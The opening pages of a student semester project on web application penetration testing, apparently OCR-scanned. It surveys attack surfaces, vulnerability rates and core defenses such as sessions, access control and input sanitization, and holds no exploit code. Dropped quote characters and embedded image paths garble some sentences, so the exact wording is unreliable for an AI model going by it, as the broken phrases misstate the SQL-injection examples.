You are on page 1of 100


Shawn Seaman
Semester Project
Web Application Penetration Testing

Table of Contents
Why Web Apps

Security Overview
Core Defense

Technologies Needed to be Understood 7

Application Mapping

Client Side Control Attacks



Session ManagementBypassing Access Controls

SQL Injection




OS Command Injection 63
File Path Manipulation 70
Attacking Users with Cross Site Scripting
Cross Site Request Forgery
Conclusion 92



Why Web Apps?

Before the introduction of web applications, attackers had fewer routers of
attacks. Web apps employ a wide variety of different code and utilize many
protocols, and therefore avenues of attack are much increased over traditional web
server exploitation. Before web applications, an attacker need only gain access to
the web server itself, where they could modify files, deface, or use the server to
distribute their own files. Web applications on the other hand interact with a client
browser, which in turn demonstrates that one of the most native purposes of a web
application is to interact with a client. More specifically, a web application accepts
client input, and as a result passes this input to internal databases which can alsobe exploited to steal credentials, bank details, etc. Web applications are being
heavily utilized as they are lightweight and allow dynamic content to be served to
the client on the fly. The connection takes place over web browsers, and these
current browsers are robust in their own right, as they are the middlemen that allow
this stateless http connection to occur, as well as handle client side processing to
take flack off of the web server, and provide user friendly input controls that all
users are familiar with. There will most likely come a time when the only
application utilized client side is a browser. Web applications include word
processing like Google Docs, shopping(Amazon), banking(Chase, Citibank), web
search,email(prior to this email was handle on a separate server), and
administrative interfaces for hardware devices. It is obvious how useful web
application are and it is trivial to understand the advantage of paying bills from a
browser over http connections that are tunneled for security(https), versus having
to go to a bank and physically doing it, but this does not comewithout challenges.
The versatility, scope, and diversity of the multitude of different web apps make it a
major challenge to secure them.

Web Application Security Overview

A layman user may seethat a web application they are interacting with is SSL
secured and take solace in the fact that they have a successful SSL handshake and
the sites certificate is trustable. Unfortunately, SSL is only one means of securing
data between client and server. SSL should not be bashed completely because it
has its use indefending against certain eavesdropping attacks, but it does not have
relevance to the types of attacks that can be launched on the client side of a web
application, nor does it stop any type of server side exploitations that can be
performed. For example, if a malicious user were to send malicious commands
through a username field in a login box, having SSL send that information securely
has nothing to do with the fact that those malicious commands could make the
server contact its back end database and fetch real username and password
credentials. The authors of Web Application Hackers Handbook, for example,
performed thousands of penetration tests on SSL secured websites and the amount

of vulnerabilities they were able to exploit disregarded the scope of SSL protectionAs seen above, they encountered broken authentication on sites at a rate of

67 percent. Broken authentication can be simplified to describe a site that has a
weak login mechanism. Whether that weak login mechanism means that the login
was able to be bypassed completely, or controls were not setup to stop brute force
attacks, varies from site to site. Broken access controls were seen at an even
higher rate, affecting 78 percent of all web applications tested. Broken access
controls defeat the purpose of even having login mechanisms, as it allows standard
users, or even guest users, to break functionality, by viewing other user data or
performing unauthorized actions on the web application. SQL injection was seen at
a rate of 36 percent, and though lower, is one of the more damaging attacks. SQL
injection allows attackers to submit SQL commands through the interface of a web
application, and where weak web applications do not sanitize this specially craftedinput, the commands are passed to the database of the web application and
executed on behalf of the malicious user. CSS and information leakage was seen at
a rate of 91 percent and 81 percent. CSS attacks allow malicious users to actively
attack other users on the site, enabling them to steal credentials or carry out
commands with the same privilegelevel as the user, using the user as a proxy.
Information leakage is mostly seen in the form of flawed error handling. An
example of this is when inputting an , or apostrophe after a url parameter(.php?
id=32), the web site throwing an SQL error.( is an SQL character limiter) This
defective error handling tells the attacker that SQL injection may be possible since
the database handled the character limiter. There are too many vulnerabilities that
may arise because of the mere fact that clients must be able to interact with the

application. Developers of applications must make no assumptions about how a
client may interact with the interface. Malicious users can pass database queries
through input fields, they can modify hidden url parameters to change prices in a
shopping cart, they can intercept and modify cookies that contain session ids of
other users(masquerading as them), and much more. This is just a brief overview
and all these attacks will be explained in greater detail. Immature security
awareness is a common problem with web applications. In house developers are
not necessarily IT security experts. Where they are able to produce functioningcode, they may not understand secure code. Even deeper down the rabbit hole,
where they understand secure code, they may not understand the complex
protocols employed by the application they are designing, and the security flaws
that are inherent to those protocols. Many developers employ the use of third party
plugins and simply integrate them with their own code. These third party plugins
are not necessarily vetted correctly, nor do they adhere to any type of security
standard. This means two things and that is all web applications turn out being
unique and bring their own unique set of vulnerabilities. An operator of a word
press site may have updated their word press template to the most recent secure
version, but if they are using an outdated or even current third party plugin (ex:
calendar plugin) that has vulnerabilities; it creates a premise for the attacker to
exploit the entire application. They need only to scan the site for vulnerable
plugins, and map out their attack methodology from there. Many in house and
contracted web app developers use extremely robust development tools that allow
complex programs to be created with relatively simple input from the actual
programmer. This handicaps programmers to an extent, because they have less
control and less understanding of the framework they are employing, and the
possible exploits that lie within it. When adding this to time and budget constraints,
it is easy to understand why so much vulnerable web applications are in production.
With a deadline approaching, it is faster and cheaper to perform a quick surface
penetration test to finger the more blatant exploits in a product. Unfortunately, in
many instances it takes a full code review and much more stringent testing to find
the less obvious exploits. The scope of many companies IT security seem to lie in
defending the perimeter of their networks. This is not a badthing but with the rise
of web applications and the understanding of web applications being open toclients, it makes sense that many companies would rethink their security priorities.
Perimeter protection firewalls, and DMZs are great but many backend databases
that communicate with web applications and in turn with the user cannot be
secured with simple perimeter protection. For example, a web app for a bank may
be grouped with other web applications in a certain DMZ, but when the client
submits requests to access certain account details, the web application may query
servers deep into the corporate infrastructure. Standard perimeter protection would
not stop an attacker who was able to leverage a web application to submit malicious
queries to databases beyond the network, nor would it stop a CSS attack where the
attacker was able to hijack a session that allows more privilege. It is very realistic
to paint a scenario where the attacker leverages the application to bypass all

perimeter protection, by breaking authentication of the application, then pivoting to
other machines, mapping out the network further, and escalating privileges on the
internal network. From there they can even break into other web applications thatexist on the infrastructure level and attack employees and superiors. The shift of
focus must be on web application security as that can nullify perimeter security in a
wide array of ways. Worst of all, such power can be harnessed with a simple
browser, and other tools working in conjunction with the browser. A final thought on
web application security is once again the assumptions of developers. Web
developers must make no assumptions that malicious attackers wont decide to use
powerful tools to create thousands of connections, requests, login attempts, or any
amalgamation of database queries to make the web app behave contradictory.
User-agent protection is complicated, or not employed, and many tools allow the
spoofing of user-agent, so they can appear as standard web browsers, such as
Chrome, Firefox, and Internet Explorer.

Core Defense
The three mechanisms of securing the user access of a web application are
authentication, session management, and access controls.
The most common way to manage user access is through authentication.
The username and password is the obvious choice for authentication, but added
security measures are challenge response tokens and client certificates. Other
capabilities are ingrained into authentication mechanisms, such as password reset.
Such capabilities are also open to attack.
The next logical step after authentication is to manage the actual users
session. With a web application handling 100s of http requests from numerous
users, it needs a way to dictate which requests are coming from which respected
user. This is handled by generating sessions to authenticated users. This is done
by submitting a token to a user that contains a session id. The token iscontained
inside of a cookie. This works effectively as the tokens are submitted back and forth
in http requests during the session, keeping track of the user, and adding an
effective timeout in response to null user activity if necessary. Unfortunately, this is
a massive avenue of attack. An attacker can ignore attacking authentication if they
can successfully hijack a users session. This effectively enables them to
masquerade as that user, along with that users special privileges. Even worse,
some session tokens are not transmitted in an http request via cookies, but actually
in hidden form fields within the html code of the web app. This is easily intercepted
by a proxy interceptor and can be manipulated by an attacker.

Wecovered actually authenticating a user, and managing specific users
sessions once they are authenticated but actually enforcing this across every http
request and every possible interaction on every portion of the web application is a
huge challenge. Developers cannot make any assumptions about how a user may
interact with the application, because incorrect access controls can allow an
attacker to bypass the checks of access. Checking that access controls are
consistent and enforced is a huge undertaking, and the failure of this auditing can
be traced back to the fact that developers are under tight budgets and time
constraints, especially when it comes to security reviewtaking a back seat. Access
control may be checked on one portion of the application, but then on a submission
form for example, the app may not enforce access correctly, allowing an attacker to
exploit from that specific web page, where he failed at others. The key here would
be to audit every page, every function, of the web application that a user can
possibly access.
All user input in a web application should be inherently untrusted. Web application
developers should make no assumptions about what type of input a user will submit
to the web application before it is passed to the server. Malicious users will look to
submit malformed data through input fields that may allow them to bypass
authentication, or hijack databases. Make no assumptions that a user will only
submit their username and password into alogin field, nor that they will adhere to
the 6 character maximum, alphabetical numbers only type of enforcement. Once
could use blacklisting, reject known bad, techniques here. This is a weak
technique though. It has a very limited scope. For example, if a form accepts the
full name of a person, and needs to accept the in many peoples last names,
black listing the apostrophe character is severely limiting. Attackers can also
encode the malicious characters they are submitting. Where a may be a
blacklisted character, the URL encoded version of it #27 may not be. This
effectively shows that a blacklist would have to be overly robust and also have to
keep up with ever expanding, evolving attacks. Whitelisting, or accept known good,
is very powerful but also comes with a limited scope. The same issue occurs when
you for example, white list alphabetical and numerical characters, but do not add
certain special characters that need to be incorporated into the field becauseof the
small chance they may be characters leverage in an attack. Data sanitization is key
in defending against malformed user input. Instead of a simply white list or black
list approach, the application can look to remove malicious characters as they go
from client to server. For example, the removal of an while still allowing the
input through, and then through decodin/encoding append the back into the
statement safely at a certain boundary. This isthe primary reason boundary checks
are important. It is very hard to secure input at one choke point, and therefore is
makes more practical sense to do it in stages. For example, make sure at a login
form that the username and password was a specific length and correct type of
character, and then at a different boundary server side or just after the login
whitelisting, perform a sanitization of removing any SQL query input by escaping

any problematic character before the query is made. Semantic checks are also
important and cannot be ignored. No amount of input sanitization will stop a
malicious user who has effectively been able to perform transactions as different
user by hijacking a session. (done by manipulation of cookie or hidden form field)
